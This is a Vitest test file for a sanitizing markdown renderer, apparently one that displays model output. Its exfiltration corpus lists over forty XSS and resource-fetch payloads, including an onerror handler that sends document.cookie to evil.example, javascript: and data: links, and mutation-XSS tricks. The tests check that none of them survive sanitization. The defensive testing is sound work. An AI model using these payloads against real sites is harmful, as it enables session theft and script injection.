// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/adapters/markdown.ts';

/** The elements and attributes the sanitized output may hold; `span` is the link target. */
const ELEMENTS = new Set(
  'p br hr strong em del code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td a span cite'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(['data-href', 'role', 'tabindex', 'title', 'align']);

function parse(html: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = html;
  return box;
}

/** Everything that would make the output unsafe, as readable findings (empty when safe). */
function problems(html: string): string[] {
  const found: string[] = [];
  for (const el of parse(html).querySelectorAll('*')) {
    const name = el.localName;
    if (!ELEMENTS.has(name)) found.push(`element <${name}>`);
    if (name === 'span' && el.parentElement?.localName !== 'a') found.push('span outside a link');
    for (const attr of el.attributes) {
      if (!ATTRIBUTES.has(attr.name)) found.push(`attribute ${attr.name} on <${name}>`);
      if (attr.name === 'data-href' && name !== 'a') found.push(`data-href on <${name}>`);
      if (attr.name === 'data-href' && !/^(?:https?:\/\/|mailto:)/i.test(attr.value))
        found.push(`data-href ${attr.value}`);
    }
    // The address is never in href, where the context menu or a drag would open it unasked.
    if (name === 'a' && el.hasAttribute('href')) found.push('a link with an href');
  }
  return found;
}

/** Each payload, with a host it must not make the page contact as a resource. */
const EXFILTRATION: [string, string][] = [
  ['img src', '<img src="https://evil.example/x.png?d=secret">'],
  ['img srcset', '<img srcset="https://evil.example/x.png 1x">'],
  ['picture source', '<picture><source srcset="https://evil.example/x.webp"><img></picture>'],
  ['video poster', '<video poster="https://evil.example/p.png"></video>'],
  ['audio src', '<audio src="https://evil.example/a.mp3" autoplay></audio>'],
  ['iframe', '<iframe src="https://evil.example/frame"></iframe>'],
  ['object data', '<object data="https://evil.example/o.swf"></object>'],
  ['embed', '<embed src="https://evil.example/e">'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/s.css">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base href', '<base href="https://evil.example/">[rel](x)'],
  ['form action', '<form action="https://evil.example/f"><button>go</button></form>'],
  ['svg image', '<svg><image href="https://evil.example/i.png"></image></svg>'],
  ['svg use', '<svg><use href="https://evil.example/s.svg#a"></use></svg>'],
  ['style attribute', '<p style="background:url(https://evil.example/bg)">x</p>'],
  ['style element', '<style>@import url(https://evil.example/i.css);</style>'],
  ['input image', '<input type="image" src="https://evil.example/i.png">'],
  ['markdown image', '![x](http://evil.example/x.png)'],
  ['markdown image with title', '![chart](https://evil.example/c.png "t")'],
  ['reference image', '![logo][l]\n\n[l]: https://evil.example/logo.png'],
  ['image inside a link', '[![x](https://evil.example/x.png)](https://ok.example/)'],
  ['javascript link', '[click](javascript:alert(document.cookie))'],
  ['javascript link with case and space', '[click]( JaVaScRiPt:alert(1))'],
  ['data link', '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['vbscript link', '[x](vbscript:msgbox(1))'],
  ['onerror attribute', '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">'],
  ['onclick attribute', '<a href="https://ok.example/" onclick="alert(1)">x</a>'],
  [
    'entity-encoded javascript',
    '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))',
  ],
  ['entity-encoded javascript in html', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['protocol-relative html link', '<a href="//evil.example/x">x</a>'],
  ['protocol-relative markdown link', '[x](//evil.example/x)'],
  ['autolink to javascript', '<javascript:alert(1)>'],
  ['math tricks', '<math><mtext><table><mglyph><style><img src=https://evil.example/m>'],
  ['math href', '<math href="https://evil.example/">x</math>'],
  ['template', '<template><img src="https://evil.example/t.png"></template>'],
  ['script', '<script>fetch("https://evil.example/")</script>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=https://evil.example/n>">'],
  ['html comment break-out', '<!--><img src=https://evil.example/c>-->'],
  ['link in a table cell', '| a |\n|---|\n| <img src=https://evil.example/t> |'],
  ['image in a heading', '# ![x](https://evil.example/h.png)'],
  [
    'background attribute',
    '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>',
  ],
  ['srcdoc', '<iframe srcdoc="<img src=https://evil.example/s>"></iframe>'],
  ['xlink href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
];

/** Attributes through which an element fetches something. */
const FETCHING = ['src', 'srcset', 'poster', 'data', 'action', 'background', 'style', 'xlink:href'];

describe('renderMarkdown: exfiltration corpus', () => {
  it('has at least 25 payloads', () => {
    expect(EXFILTRATION.length).toBeGreaterThanOrEqual(25);
  });

  it.each(EXFILTRATION)('%s', (_name, payload) => {
    const html = renderMarkdown(payload);
    expect(problems(html)).toEqual([]);
    const root = parse(html);
    for (const el of root.querySelectorAll('*'))
      for (const attr of FETCHING) expect(el.hasAttribute(attr)).toBe(false);
    expect(root.querySelector('script, img, style, iframe, svg, math, template')).toBeNull();
    // Nothing links to the attacker either (links are shown, but never to evil hosts here).
    for (const a of root.querySelectorAll('a'))
      expect(a.getAttribute('data-href')).not.toMatch(/evil\.example|javascript|data:/i);
  });

  it('shows raw HTML as the text it is', () => {
    const root = parse(renderMarkdown('Hello <b onclick="x()">world</b> <img src=x>'));
    expect(root.textContent).toContain('<b onclick="x()">world</b>');
    expect(root.textContent).toContain('<img src=x>');
    expect(root.querySelector('b, img')).toBeNull();
  });

  it('names an image instead of fetching it', () => {
    const root = parse(renderMarkdown('See ![sales chart](https://evil.example/c.png).'));
    expect(root.textContent).toContain('[image: sales chart] (https://evil.example/c.png)');
    expect(root.querySelector('img')).toBeNull();
  });
});

describe('renderMarkdown: links show their real target', () => {
  it('appends the host to a link whose text differs, and keeps the full URL in the title', () => {
    const root = parse(renderMarkdown('Read the [docs](https://evil.example/x).'));
    const a = root.querySelector('a')!;
    expect(a.textContent).toContain('docs');
    expect(a.textContent).toContain('evil.example');
    expect(a.textContent).toBe('docs (evil.example/x)');
    expect(a.getAttribute('title')).toBe('https://evil.example/x');
    expect(a.getAttribute('data-href')).toBe('https://evil.example/x');
    // Keyboard-reachable and announced as a link, with nothing for the browser to open.
    expect(a.hasAttribute('href')).toBe(false);
    expect(a.getAttribute('role')).toBe('link');
    expect(a.getAttribute('tabindex')).toBe('0');
  });

  it('shows the target of a link whose text is a different URL', () => {
    const root = parse(renderMarkdown('[https://bank.example/](https://evil.example/login)'));
    expect(root.querySelector('a')!.textContent).toContain('(evil.example/login)');
  });

  it('adds nothing to autolinks, whose text is the target', () => {
    for (const md of ['<https://example.com/a>', 'https://example.com/a', 'www.example.com']) {
      const a = parse(renderMarkdown(md)).querySelector('a')!;
      expect(a.querySelector('span')).toBeNull();
      expect(a.getAttribute('data-href')).toMatch(/^https?:\/\/(www\.)?example\.com/);
    }
  });

  it('keeps mailto links', () => {
    const a = parse(renderMarkdown('[write](mailto:someone@example.com)')).querySelector('a')!;
    expect(a.getAttribute('data-href')).toBe('mailto:someone@example.com');
    expect(a.textContent).toBe('write (someone@example.com)');
  });

  it('keeps the text of a link it refuses', () => {
    const root = parse(renderMarkdown('[relative](/etc/passwd) and [bad](javascript:x)'));
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent).toContain('relative');
    expect(root.textContent).toContain('bad');
  });
});

describe('renderMarkdown: ordinary markdown', () => {
  const md = [
    '# Summary',
    '',
    '## Findings',
    '',
    'Revenue grew **12%**, mostly in *North*; ~~South~~ fell.',
    '',
    '- first',
    '- second',
    '',
    '1. one',
    '2. two',
    '',
    '> a quote',
    '',
    'Inline `SELECT 1` and a block:',
    '',
    '```sql',
    'SELECT region, sum(revenue) FROM data GROUP BY 1;',
    '```',
    '',
    '| Region | Revenue |',
    '|:-------|--------:|',
    '| North  | 1,200   |',
    '| South  | 900     |',
    '',
    '---',
    '',
    '- [x] done',
    '- [ ] open',
  ].join('\n');
  const html = renderMarkdown(md);
  const root = parse(html);

  it('renders headings, emphasis, lists, quotes and code', () => {
    expect(root.querySelector('h1')!.textContent).toBe('Summary');
    expect(root.querySelector('h2')!.textContent).toBe('Findings');
    expect(root.querySelector('strong')!.textContent).toBe('12%');
    expect(root.querySelector('em')!.textContent).toBe('North');
    expect(root.querySelector('del')!.textContent).toBe('South');
    expect(root.querySelectorAll('ul > li')).toHaveLength(4);
    expect(root.querySelectorAll('ol > li')).toHaveLength(2);
    expect(root.querySelector('blockquote')!.textContent).toContain('a quote');
    expect(root.querySelector('p > code')!.textContent).toBe('SELECT 1');
    expect(root.querySelector('pre > code')!.textContent).toContain('GROUP BY 1;');
    expect(root.querySelector('hr')).not.toBeNull();
  });

  it('renders a GFM table with its alignment', () => {
    const cells = [...root.querySelectorAll('table td')].map((td) => td.textContent);
    expect(cells).toEqual(['North', '1,200', 'South', '900']);
    expect([...root.querySelectorAll('thead th')].map((th) => th.textContent)).toEqual([
      'Region',
      'Revenue',
    ]);
    expect(root.querySelector('td:nth-child(2)')!.getAttribute('align')).toBe('right');
  });

  it('renders task lists without form controls', () => {
    expect(root.textContent).toContain('☑ done');
    expect(root.textContent).toContain('☐ open');
    expect(root.querySelector('input')).toBeNull();
  });

  it('keeps only allowed elements and attributes', () => {
    expect(problems(html)).toEqual([]);
  });

  it('renders empty text as nothing', () => {
    expect(renderMarkdown('')).toBe('');
  });
});

describe('renderMarkdown: query citations', () => {
  const cited = (md: string) =>
    [...parse(renderMarkdown(md)).querySelectorAll('cite')].map((c) => c.textContent);

  it('turns [Q3] after a figure into a citation of that query', () => {
    expect(cited('November had 642.5 mm [Q3].')).toEqual(['Q3']);
  });

  it('reads several ids in one bracket, and ids in a table cell', () => {
    expect(cited('Up 12% [Q2, Q10]')).toEqual(['Q2', 'Q10']);
    expect(cited('| a | b |\n|---|---|\n| 1 [Q4] | 2 |')).toEqual(['Q4']);
  });

  it('leaves ids in code spans and code blocks, and look-alikes, as text', () => {
    expect(cited('Write `[Q3]` to cite.\n\n```\n[Q4]\n```')).toEqual([]);
    expect(cited('[Q] [QA] [q3] [Q3 ] [ Q3]')).toEqual([]);
    expect(renderMarkdown('Write `[Q3]`')).toContain('<code>[Q3]</code>');
  });

  it('keeps a citation the model wrote as HTML as the text it is', () => {
    const html = renderMarkdown('<cite onclick="x()">Q1</cite>');
    expect(cited('<cite>Q1</cite>')).toEqual([]);
    expect(problems(html)).toEqual([]);
  });

  it('does not turn a reference link into a citation when it is defined as a link', () => {
    const html = renderMarkdown('See [Q1].\n\n[Q1]: https://example.com/q');
    expect(parse(html).querySelector('cite')).not.toBeNull();
    expect(problems(html)).toEqual([]);
  });
});
